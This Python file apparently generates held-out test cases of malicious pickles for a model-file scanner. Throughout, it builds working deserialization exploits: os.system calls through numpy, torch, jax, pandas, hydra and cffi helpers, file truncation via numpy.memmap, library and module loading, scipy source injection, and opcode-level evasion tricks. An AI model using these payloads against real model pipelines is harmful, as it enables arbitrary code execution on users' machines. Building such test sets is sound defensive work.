"""Held-out attacks: pickles that act through what honest models are made of, or through tools beside them."""

# ruff: noqa: E501 (one attack a line)
from __future__ import annotations

from collections.abc import Iterator

from corpora.unseen_units import (
    CALL,
    EVIL,
    MARK,
    NAME,
    OUTSIDE,
    STATE,
    TOUCH,
    URL,
    WRITE,
    Attack,
    Raw,
    build,
    call,
    name,
    new,
    op,
    pickled,
    stream,
)

S = name("os:system")
REACH = CALL | {"model-path-traversal", "model-external-data"}
CANARY = f"{OUTSIDE}/canary.txt"
EMPTIES = (CANARY, "u1", "w+", 0, (4,))  # numpy.memmap empties this file
MAP = name("numpy:memmap")
PAYLOAD = {"payload.py": f"{WRITE}\nclass Model: pass\n".encode()}


def indirect() -> Iterator[Attack]:
    """Honest helpers of pickling that call what they are given. The class that they make is one that honest models have."""
    index = name("pandas.core.indexes.base:_new_Index")
    dates = name("pandas.core.indexes.datetimes:_new_DatetimeIndex")
    keywords = {"filename": CANARY, "dtype": "u1", "mode": "w+", "offset": 0, "shape": (4,)}
    table = {
        "copyreg-newobj": ("copyreg.__newobj__ of numpy.memmap empties a file", call("copyreg:__newobj__", MAP, *EMPTIES)),
        "copyreg-newobj-ex": ("copyreg.__newobj_ex__ gives the path by keyword", call("copyreg:__newobj_ex__", MAP, (), keywords)),
        "newobj-ex-memmap": ("NEWOBJ_EX gives numpy.memmap its path by keyword", Raw(MAP + op(()) + op(keywords) + b"\x92")),
        "copyreg-reconstructor": ("copyreg._reconstructor calls __init__ with the state: a log's handler makes its file", call("copyreg:_reconstructor", name("logging:FileHandler"), name("logging:FileHandler"), MARK)),
        "generator-constructor": ("numpy's constructor of generators calls the constructor it is given", call("numpy.random._pickle:__generator_ctor", TOUCH, S)),
        "generator-memmap": ("the same with an allowed class: numpy.memmap of a partial", call("numpy.random._pickle:__generator_ctor", (4,), call("functools:partial", MAP, CANARY, "u1", "w+", 0))),
        "random-state-load": ("numpy's constructor of random states calls joblib.load", call("numpy.random._pickle:__randomstate_ctor", f"{OUTSIDE}/canary.pkl", name("joblib:load"))),
        "ufunc-beside": ("numpy rebuilds a ufunc by importing a module beside the model", call("numpy.core:_ufunc_reconstruct", "payload", "Model"), PAYLOAD),
        "ufunc-old-path": ("the same under the name of NumPy 1", call(call("numpy.core:_ufunc_reconstruct", "os", "system"), TOUCH)),
        "jax-array": ("jax rebuilds an array by calling a function of choice", call("jax._src.array:_reconstruct_array", S, (TOUCH,), None, {})),
        "jax-array-memmap": ("the function is numpy.memmap, as an array's class could be", call("jax._src.array:_reconstruct_array", MAP, EMPTIES, None, {})),
        "torch-type-memmap": ("torch rebuilds a subclass by calling numpy.memmap", call("torch._tensor:_rebuild_from_type_v2", MAP, MAP, EMPTIES, {})),
        "torch-type-old": ("the older helper does the same", call("torch._tensor:_rebuild_from_type", MAP, name("torch:Tensor"), EMPTIES, {})),
        "pandas-index": ("pandas rebuilds an index of a class of choice", call(index, MAP, keywords)),
        "pandas-dates": ("pandas rebuilds dates of a class of choice", call(dates, MAP, keywords)),
        "factory-memmap": ("a defaultdict's factory is a partial of numpy.memmap; a missing key empties a file", call("collections:defaultdict", call("functools:partial", MAP, *EMPTIES))),
        "partial-state": ("the partial gets numpy.memmap by its state", call("collections:defaultdict", build(new("functools:partial", name("builtins:dict")), (MAP, EMPTIES, {}, {})))),
        "memmap-subclass": ("a recarray is viewed from a memmap that was emptied in a tuple", Raw(op((1,)) + b"0" + b"(" + new(MAP, *EMPTIES) + b"t")),
        "datapipe": ("a wrapper of torch's data pipes unpickles its state", build(new("torch.utils.data.datapipes.datapipe:_IterDataPipeSerializationWrapper"), (EVIL, False))),
        "fx-graph": ("torch.fx rebuilds a module from the source in its state", call("torch.fx.graph_module:reduce_graph_module", {"_code": f"def forward(self):\n    pass\n{WRITE}\n", "_graphmodule_cls_name": "GraphModule"}, f"{WRITE}\n")),
        "torch-library": ("torch.ops loads a native library that lies beside", call("torch:ops.load_library", "w.bin"), "library"),
        "ctypes-pickle-library": ("ctypes loads a native library that lies beside", call("ctypes:CDLL", "./w.bin"), "library"),
        "openvino-extension": ("OpenVINO loads an extension that lies beside", call("openvino:Core.add_extension", call("openvino:Core"), "./w.bin"), "library"),
        "torch-hub-url": ("torch.hub downloads to a path", call("torch.hub:download_url_to_file", URL, MARK, None, False)),
        "torch-jit-load": ("torch.jit loads a program that lies outside", call("torch.jit:load", CANARY), None, "kept: no program lies there"),
        "blosc2": ("blosc2.unpack unpickles", call("blosc2:unpack", _blosc()), {}),
        "hydra-locate": ("Hydra locates by a dotted name", call(call("hydra._internal.utils:_locate", "os.system"), TOUCH)),
        "hydra-instantiate": ("Hydra instantiates a configuration", call("hydra.utils:instantiate", {"_target_": "subprocess.check_call", "_args_": [["touch", MARK]]})),
        "cffi": ("cffi opens libc and calls system", call(call("builtins:getattr", call("cffi:FFI.dlopen", _ffi(), None), "system"), TOUCH.encode())),
        "entry-point": ("an entry point loads what it names", call(call("importlib_metadata:EntryPoint.load", call("importlib_metadata:EntryPoint", "x", "os:system", "g")), TOUCH)),
        "catboost-save": ("CatBoost writes its parameters to a path", call("catboost:CatBoost.save_model", call("catboost:CatBoost"), MARK), None, "kept: a model that is not fitted is refused; the name is what counts"),
        "catboost-pool": ("CatBoost reads a table from a path", call("catboost:Pool", CANARY), None, "kept: the table's numbers are parsed, then refused"),
        "xgboost-dmatrix": ("XGBoost reads a table from a path", call("xgboost:DMatrix", CANARY + "?format=csv"), None, "kept: the table is parsed, then refused"),
        "lightgbm-file": ("LightGBM's Booster reads a model outside of the folder", call("lightgbm:Booster", None, None, CANARY), None, "kept: the text is read, then refused"),
        "scipy-netcdf": ("scipy opens a NetCDF file for writing", call("scipy.io:netcdf_file", MARK, "w")),
        "scipy-wave": ("scipy writes sound to a path", call("scipy.io.wavfile:write", MARK, 8000, call("numpy:zeros", 4))),
        "joblib-batch": ("joblib's batch of calls is called", call("joblib.parallel:BatchedCalls.__call__", call("joblib.parallel:BatchedCalls", [(S, (TOUCH,), {})], (call("joblib._parallel_backends:SequentialBackend"), 1)))),
        "networkx-gml": ("networkx writes a graph to a path", call("networkx:write_gml", call("networkx:Graph"), MARK)),
        "onnx-external": ("onnx saves to a path", call("onnx:save", call("onnx:ModelProto"), MARK)),
        "flax-module": ("orbax's checkpointer saves to a folder of choice", call("orbax.checkpoint:PyTreeCheckpointer.save", call("orbax.checkpoint:PyTreeCheckpointer"), MARK, {"a": 1})),
        "tokenizers-save": ("a tokenizer saves itself", call("tokenizers:Tokenizer.save", call("tokenizers:Tokenizer", call("tokenizers.models:BPE")), MARK)),
        "mlflow-load": ("MLflow loads the folder's model", call("mlflow.pyfunc:load_model", "."), {"MLmodel": b"flavors:\n  python_function:\n    code: code\n    loader_module: payload\nmlflow_version: 3.0.0\nmodel_uuid: a\n", "code/payload.py": f"{WRITE}\ndef _load_pyfunc(p): pass\n".encode()}),
        "lightning-yaml": ("Lightning loads hyperparameters from a YAML file by its path", call("pytorch_lightning.core.saving:load_hparams_from_yaml", CANARY), None, "kept: the text is read, then refused"),
        "psutil-kill": ("psutil sends a signal to the parent", call("psutil:Process.suspend", call("psutil:Process", 999999)), None, "kept: it would stop the reader"),
    }  # fmt: skip
    after = {"factory-memmap": "; x['label']", "partial-state": "; x['label']"}
    for what, (does, body, *rest) in table.items():
        files = rest[0] if rest and rest[0] else {}
        if files == "library":
            from corpora.unseen_units import written

            files = written("library")
        proof = rest[1] if len(rest) > 1 else "mark"
        rules = (REACH | NAME | STATE) if what in after else REACH | NAME
        load = "import pickle, torch, numpy, pandas; x = pickle.load(open(F, 'rb'))" + after.get(what, "")
        env = {"pandas-index": "arrow13", "hydra-instantiate": "hydra"}.get(what, "main")
        load = "import pickle; x = pickle.load(open(F, 'rb'))" if env != "main" else load
        yield pickled("library-indirect", what, does, body, rules=rules, beside=files, call=load, env=env, proof=proof)


def _ffi() -> Raw:
    kept = Raw(call("cffi:FFI") + b"q\x21")
    return Raw(kept + b"0" + call("cffi:FFI.cdef", Raw(b"h\x21"), "int system(const char *);") + b"0h\x21")


def _blosc() -> bytes:
    """A chunk of Blosc 2 that stores its bytes as they are."""
    import struct

    data = EVIL
    head = struct.pack("<BBBBIII", 2, 1, 0x02, 1, len(data), len(data), len(data) + 16)
    return head + data


def source() -> Iterator[Attack]:
    """scipy's distributions run the text in their state."""
    honest = "\ndef _parse_args(self, %s loc=0, scale=1):\n    return (), loc, scale\n\ndef _parse_args_rvs(self, loc=0, scale=1, size=None):\n    return self._argcheck_rvs(loc, scale, size=size)\n\ndef _parse_args_stats(self, loc=0, scale=1, moments='mv'):\n    return (), loc, scale, moments\n"
    norm = new("scipy.stats._continuous_distns:norm_gen")
    evil = honest % "" + WRITE + "\n"
    key = "_parse_arg_template"
    table = {
        "appended": ("a line behind the text that scipy writes", build(norm, {key: evil})),
        "default": ("a default argument of the text that scipy writes", build(norm, {key: honest % f"x={WRITE},"})),
        "pairs": ("the state is a list of pairs, which dict.update takes as well", build(norm, [(key, evil)])),
        "pairs-tuple": ("the state is a tuple of lists", build(norm, ([key, evil],))),
        "twice": ("two entries of one key; the second counts", build(norm, Raw(op({key: honest % ""})[:-1] + op(key) + op(evil) + b"u"))),
        "setitem": ("the dict was honest when it was put in the memo; SETITEM changes it before BUILD", Raw(norm + op({key: honest % ""}) + b"q\x31" + op(key) + op(evil) + b"s" + b"b")),
        "text-subclass": ("the text is joined by str.join", build(norm, {key: call("builtins:str.join", "", [honest % "", WRITE])})),
        "frozen": ("the distribution hides in a frozen one", build(new("scipy.stats._distn_infrastructure:rv_continuous_frozen"), {"args": (), "kwds": {}, "dist": build(norm, {key: evil})})),
        "discrete": ("a discrete distribution", build(new("scipy.stats._discrete_distns:binom_gen"), {key: evil})),
        "decorator": ("a decorator before the first function", build(norm, {key: (honest % "").replace("\ndef _parse_args(", f"\n@(lambda f: ({WRITE}, f)[1])\ndef _parse_args(", 1)})),
    }  # fmt: skip
    for what, (does, body) in table.items():
        yield pickled(
            "library-source",
            what,
            does,
            body,
            rules=STATE,
            call="import pickle, scipy.stats; pickle.load(open(F, 'rb'))",
        )


def spelled() -> Iterator[Attack]:
    """More opcodes: old names, computed arguments, odd streams."""
    t = TOUCH.encode()
    system = b"cos\nsystem\n"
    table = {
        "persistent-text": ("PERSID in protocol 0 asks the loader, then the call", b"P1\n0" + system + b"(S'" + t + b"'\ntR.", "class U(__import__('pickle').Unpickler):\n    def persistent_load(self, p): return p\nU(open(F, 'rb')).load()"),
        "python2-string": ("BINSTRING and SHORT_BINSTRING are names", b"\x80\x02U\x02os" + b"T" + (6).to_bytes(4, "little") + b"system\x93U" + bytes([len(t)]) + t + b"\x85R."),
        "python2-maps": ("protocol 1 maps os.popen2's heir: Python 2's names", b"c__builtin__\nexecfile\n." , "kept", "kept: execfile is gone; whether a scanner names it is what counts"),
        "tuple1-stack": ("TUPLE1 over what an older mark left", b"\x80\x02(" + system + b"U" + bytes([len(t)]) + t + b"\x85R1N."),
        "obj-nested": ("OBJ within the mark of OBJ", b"\x80\x02(cbuiltins\nlist\n(" + system + b"U" + bytes([len(t)]) + t + b"o\x85o."),
        "inst-arguments": ("INST takes its arguments from the memo", b"\x80\x02U" + bytes([len(t)]) + t + b"q\x09" + b"0(h\x09ios\nsystem\n."),
        "sixteen-protos": ("PROTO before each opcode", b"".join(b"\x80\x04" + part for part in (b"\x8c\x02os", b"\x8c\x06system", b"\x93", b"\x8c" + bytes([len(t)]) + t, b"\x85", b"R", b"."))),
        "frame-too-long": ("a frame that is longer than the file: the C unpickler stops, the Python one acts", b"\x80\x04\x95" + (9999).to_bytes(8, "little") + EVIL[2:], "__import__('pickle')._load(open(F, 'rb'))"),
        "unicode-name": ("a name with letters that fold to ASCII only in source code", stream(Raw(op("posix") + op("system") + b"\x93" + op((TOUCH,)) + b"R"))),
        "deep-tuple": ("the arguments lie in 5,000 tuples", stream(Raw(name("functools:reduce") + op(()) + b"0"), Raw(name("os:system") + op(TOUCH) + b"\x85R"))),
        "reduce-of-reduce": ("the callable is what a REDUCE of a REDUCE returned", stream(call(call(call("functools:partial", name("functools:partial"), S)), TOUCH))),
        "copyreg-table": ("copyreg's table gets a reducer; the next copy calls it", stream(Raw(name("copyreg:dispatch_table") + name("builtins:complex") + op(S) + b"s"), op(1.0))),
        "atexit": ("atexit calls when the program ends", stream(call("atexit:register", S, TOUCH))),
        "weak-finalize": ("weakref.finalize calls when the program ends", stream(call("weakref:finalize", name("builtins:set"), S, TOUCH))),
        "thread-timer": ("a thread starts and acts", stream(call("_thread:start_new_thread", S, (TOUCH,)))),
        "signal-alarm": ("a signal's handler is set to exit, an alarm is set", stream(call("signal:setitimer", 0, 0.01))),
        "sys-exit": ("the program ends while it loads", stream(call("sys:exit", 3)), None, "kept: the reader ends"),
        "fault": ("faulthandler reads address 0", stream(call("faulthandler:_read_null")), None, "bomb"),
        "trace": ("sys.settrace sets what every call passes through", stream(call("sys:setprofile", S)), None, "kept: os.system gets a frame and fails; the reader breaks"),
        "import-hook": ("a path hook beside the others", stream(Raw(name("sys:meta_path") + op("CANARY-7f3a") + b"a")), "import pickle, sys; pickle.load(open(F, 'rb')); print(sys.meta_path)"),
        "builtins-swap": ("print becomes os.system by BUILD on builtins' dictionary", stream(Raw(name("builtins:__dict__") + op("print") + S + b"s")), f"import pickle; pickle.load(open(F, 'rb')); print({TOUCH!r})"),
    }  # fmt: skip
    for what, (does, data, *rest) in table.items():
        load = rest[0] if rest and rest[0] not in (None, "kept") else "import pickle; pickle.load(open(F, 'rb'))"
        proof = rest[1] if len(rest) > 1 else "mark"
        load += "\nimport time; time.sleep(0.3)" if what in {"thread-timer", "signal-alarm"} else ""
        if what == "copyreg-table":
            load = "import pickle, copyreg, os; pickle.load(open(F, 'rb')); print('CANARY-7f3a' * (copyreg.dispatch_table[complex] is os.system))"
        yield pickled(
            "library-opcodes",
            what,
            does,
            data=data,
            rules=STATE | {"model-broken-stream"},
            call=load,
            proof="bomb" if what == "signal-alarm" else proof,
        )


def attacks() -> Iterator[Attack]:
    yield from indirect()
    yield from source()
    yield from spelled()
